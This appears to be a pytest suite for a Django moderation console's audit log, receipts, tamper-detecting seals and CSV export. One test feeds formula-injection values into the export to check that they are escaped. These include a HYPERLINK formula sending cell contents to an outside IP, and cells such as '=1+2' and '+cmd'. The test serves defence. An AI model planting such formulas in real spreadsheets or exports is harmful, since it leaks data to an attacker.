import csv
import io
import json
from dataclasses import replace
from datetime import timedelta

import pytest
from django.conf import settings
from django.db import connection, transaction

from applications import audit as audit_trail
from applications import audit_seals, environments
from applications.models import AuditEvent
from moderation import bans
from tests.console.pages import address
from tests.factories import (
    DAY,
    HOUR,
    MINUTE,
    NOON,
    make_application,
    make_connection,
    make_environment,
    make_gateway,
    make_user,
    staff_actor,
)
from users import deletion, presence
from users.models import Connection

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("member")]


def ban(environment, user_id, *, by="grace", now=NOON):
    bans.impose(
        environment=environment,
        user_ids=[user_id],
        expires_at=now + 7 * DAY,
        reason="spam",
        by=staff_actor(by),
        now=now,
    )


@pytest.fixture
def show(client, environment):
    def show(**query):
        return client.get(address("audit:index", environment), query)

    return show


def subjects(response):
    groups = response.context["groups"]
    return [line.event.subject for group in groups for line in group.lines]


class TestAuditLog:
    def test_lists_the_environment_newest_first(self, environment, show):
        other = make_environment(kind="production", application=environment.application)
        ban(environment, "first")
        ban(other, "elsewhere")
        ban(environment, "second", now=NOON + HOUR)
        assert subjects(show()) == ["second", "first"]

    def test_lists_changes_of_the_application_separately(self, environment, show):
        ban(environment, "mallory")
        groups = show(of="application").context["groups"]
        types = [line.event.type for group in groups for line in group.lines]
        assert types == ["application.created"]

    @pytest.mark.parametrize(
        "query",
        [
            {"type": "ban.lifted"},
            {"actor": "heidi"},
            {"subject": "mia"},
            {"since": "2026-03-04"},
        ],
    )
    def test_filters_and_shows_each_filter_as_a_chip(self, environment, show, query):
        ban(environment, "mallory")
        ban(environment, "mia")
        bans.lift(
            environment=environment,
            user_ids=["mia"],
            by=staff_actor("heidi"),
            now=NOON + 3 * DAY,
        )
        response = show(**query)
        assert set(subjects(response)) == {"mia"}
        [chip] = response.context["filters"]
        assert chip["url"] == "?"

    def test_includes_the_last_day_of_a_period(self, environment, show):
        ban(environment, "that-day", now=NOON)
        ban(environment, "next-day", now=NOON + DAY)
        assert subjects(show(since="2026-03-02", until="2026-03-02")) == ["that-day"]

    def test_shows_before_and_after(self, environment, show):
        ban(environment, "mallory")
        bans.impose(
            environment=environment,
            user_ids=["mallory"],
            expires_at=None,
            reason="worse",
            by=staff_actor(),
            now=NOON + HOUR,
        )
        changes = {change.word: change for change in show().context["groups"][0].first.changes}
        assert changes["until"].before == NOON + 7 * DAY
        assert changes["until"].after == "permanent"
        assert (changes["reason"].before, changes["reason"].after) == ("spam", "worse")

    def test_shows_spans_in_readable_units(self, environment, show):
        environments.change(
            environment=environment,
            plan=environment.plan,
            token_lifetime=timedelta(days=30),
            reactivation_cooling_off=timedelta(0),
            by=staff_actor(),
            now=NOON,
        )
        [change] = show().context["groups"][0].first.changes
        assert (change.before, change.after) == ("no end", "30 days")

    @pytest.mark.parametrize(
        "query",
        [
            {"type": "no.such"},
            {"since": "yesterday"},
            {"until": "9999-12-31"},
            {"cursor": "junk"},
            {"actor": "\0"},
            {"subject": "x" * 200},
            {"of": "nothing"},
        ],
    )
    def test_accepts_any_query(self, environment, show, query):
        ban(environment, "mallory")
        assert show(**query).status_code == 200

    def test_makes_no_more_queries_for_more_lines(
        self, environment, show, django_assert_num_queries
    ):
        for number in range(60):
            ban(environment, f"user-{number}")
        # Session, account, environment, membership, lines; the last seal, what waits for one.
        with django_assert_num_queries(7):
            assert len(subjects(show())) == 50

    def test_unfolds_what_one_act_did_to_several(self, environment, show):
        delete(environment, "ada", "bob", "cyd")
        ban(environment, "mallory", now=NOON + HOUR)
        ban(environment, "mia", now=NOON + HOUR + MINUTE)
        groups = show().context["groups"]
        assert [len(group.lines) for group in groups] == [1, 1, 3]
        text = show().text
        assert "ada and 2 more" in text or "cyd and 2 more" in text


def delete(environment, *user_ids):
    for user_id in user_ids:
        make_user(environment=environment, user_id=user_id)
    deletion.delete(environment=environment, user_ids=user_ids, by=staff_actor(), now=NOON)


class TestReceipt:
    @pytest.fixture
    def receipt(self, client, environment):
        def receipt(line):
            return client.get(address("audit:line", environment, line.pk))

        return receipt

    def test_says_how_many_connections_each_gateway_closed_and_how_fast(self, environment, receipt):
        fast, slow = make_gateway(), make_gateway()
        for gateway in (fast, fast, slow):
            make_connection(environment=environment, user_id="mia", gateway=gateway)
        make_connection(environment=environment, user_id="ben", gateway=slow)
        ban(environment, "mia")
        closed = Connection.objects.filter(user_id="mia", gateway=fast)
        ids = list(closed.values_list("pk", flat=True))
        presence.disconnect(connection_ids=ids, now=NOON + timedelta(milliseconds=68))
        outcome = receipt(AuditEvent.objects.latest("pk")).context["outcome"]
        assert [(each.gateway, each.connections) for each in outcome.carried] == [(fast.name, 2)]
        assert (outcome.carried[0].within, outcome.waiting) == (timedelta(milliseconds=68), 1)
        assert "68 ms" in receipt(AuditEvent.objects.latest("pk")).text

    def test_says_that_no_connection_was_open(self, environment, receipt):
        ban(environment, "mia")
        assert "No connection was open" in receipt(AuditEvent.objects.latest("pk")).text

    def test_lists_the_other_lines_of_the_act(self, environment, receipt):
        delete(environment, "ada", "bob", "cyd")
        line = AuditEvent.objects.get(subject="bob")
        others = receipt(line).context["others"]
        assert [other.event.subject for other in others] == ["ada", "cyd"]

    def test_takes_the_same_queries_however_many_lines_the_act_has(
        self, environment, receipt, django_assert_num_queries
    ):
        delete(environment, *(f"user-{number}" for number in range(20)))
        # Session, account, environment, membership, line; its act, seal, the last seal; reports of
        # kicks, connections that wait; what was deleted.
        line = AuditEvent.objects.latest("pk")
        with django_assert_num_queries(11):
            receipt(line)

    def test_offers_the_undo_while_there_is_one(self, at_noon, environment, receipt):
        ban(environment, "mia")
        banned = AuditEvent.objects.latest("pk")
        assert receipt(banned).context["undo"].label == "Lift the ban"
        bans.lift(environment=environment, user_ids=["mia"], by=staff_actor(), now=NOON + HOUR)
        assert receipt(banned).context["undo"] is None

    def test_undoes_only_ones_own_lift(self, at_noon, client, environment, member, receipt):
        for name in (member.get_username(), "heidi"):
            ban(environment, "mia")
            bans.lift(
                environment=environment, user_ids=["mia"], by=staff_actor(name), now=NOON + HOUR
            )
            undo = receipt(AuditEvent.objects.latest("pk")).context["undo"]
            assert (undo is not None) == (name != "heidi")

    def test_is_linked_by_the_message_that_says_what_was_done(self, client, environment):
        form = {"user_ids": "mia", "until": "24h", "reason": "spam"}
        response = client.post(
            address("bans:impose", environment), form, headers={"HX-Request": "true"}
        )
        toast = json.loads(response["HX-Trigger"])["toast"]
        line = AuditEvent.objects.latest("pk")
        assert toast["receipt"] == address("audit:line", environment, line.pk)

    def test_of_another_application_is_not_found(self, client, environment):
        other = make_environment(application=make_application(name="Other"))
        line = AuditEvent.objects.filter(application=other.application).latest("pk")
        assert client.get(address("audit:line", environment, line.pk)).status_code == 404


class TestSeals:
    @pytest.fixture
    def seals(self, client, environment):
        def seals(**query):
            return client.get(address("audit:seals", environment), query)

        return seals

    def test_say_that_all_is_as_it_was(self, environment, seals):
        ban(environment, "mallory")
        audit_seals.seal_next(now=NOON)
        page = seals(verify=1)
        assert page.context["report"].is_whole
        assert "All are as they were" in page.text

    def test_name_the_line_that_was_changed_and_not_those_of_others(self, environment, seals):
        other = make_environment(application=make_application(name="Other"))
        ban(environment, "mallory")
        ban(other, "secret")
        audit_seals.seal_next(now=NOON)
        mine = AuditEvent.objects.get(subject="mallory").pk
        with connection.cursor() as cursor:
            cursor.execute("SET session_replication_role = replica")
            cursor.execute("UPDATE applications_auditevent SET actor = 'x' WHERE type LIKE 'ban%'")
            cursor.execute("SET session_replication_role = DEFAULT")
        page = seals(verify=1)
        assert f"Line {mine} was changed after it was sealed" in page.text
        assert "1 of other applications" in page.text
        receipt = page.client.get(address("audit:line", environment, mine))
        assert "This line was changed" in receipt.text

    def test_are_compared_up_to_a_bound(self, environment, seals, monkeypatch):
        monkeypatch.setattr("console.audit.seals.LINES_AT_MOST", 2)
        for number in range(3):
            ban(environment, f"user-{number}")
            audit_seals.seal_next(now=NOON + number * MINUTE)
        assert seals(verify=1).context["compared"] == range(2, 4)

    @pytest.mark.parametrize("query", [{}, {"verify": "1"}, {"cursor": "junk"}])
    def test_are_none_at_first(self, environment, seals, query):
        assert "No seals yet" in seals(**query).text


def exported(client, environment, **filters):
    file = address("transfers:file", environment, "audit")
    response = client.get(file, {"format": "csv", **filters})
    assert "attachment" in response["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(response.getvalue().decode())))


class TestAuditExport:
    def test_writes_what_the_filters_find(self, client, environment):
        ban(environment, "mallory")
        ban(environment, "mia")
        response = client.get(
            address("transfers:file", environment, "audit"), {"subject": "mia", "format": "csv"}
        )
        [row] = csv.DictReader(io.StringIO(response.getvalue().decode()))
        assert row["subject"] == "mia"
        assert row["at"] == NOON.isoformat()
        assert '"reason": "spam"' in row["after"]

    def test_has_no_cell_that_a_spreadsheet_would_run(self, client, environment):
        formula = '=HYPERLINK("http://192.0.2.66/?"&A1,"x")'
        by = replace(staff_actor("@SUM(A1)"), via=formula, request_id="\t=1")
        for user_id in ("=1+2", "+cmd", "-2", "mia"):
            with transaction.atomic():
                audit_trail.record(
                    "ban.lifted", environment=environment, subject=user_id, by=by, now=NOON
                )
        response = client.get(address("transfers:file", environment, "audit"), {"format": "csv"})
        rows = {
            row["subject"]: row for row in csv.DictReader(io.StringIO(response.getvalue().decode()))
        }
        assert rows.keys() == {"'=1+2", "'+cmd", "'-2", "mia"}
        mia = rows["mia"]
        assert (mia["via"], mia["request_id"]) == (f"'{formula}", "'\t=1")
        assert {row["actor"] for row in rows.values()} == {"'@SUM(A1)"}

    def test_is_the_only_way_to_write_csv(self):
        """So that no other export forgets to escape formulas."""
        packages = (
            "applications",
            "users",
            "moderation",
            "transfers",
            "console",
            "api",
            "rollcall",
        )
        sources = [path for each in packages for path in (settings.BASE_DIR / each).rglob("*.py")]
        writers = [path.name for path in sources if "csv" in path.read_text().split()]
        assert writers == ["files.py"]
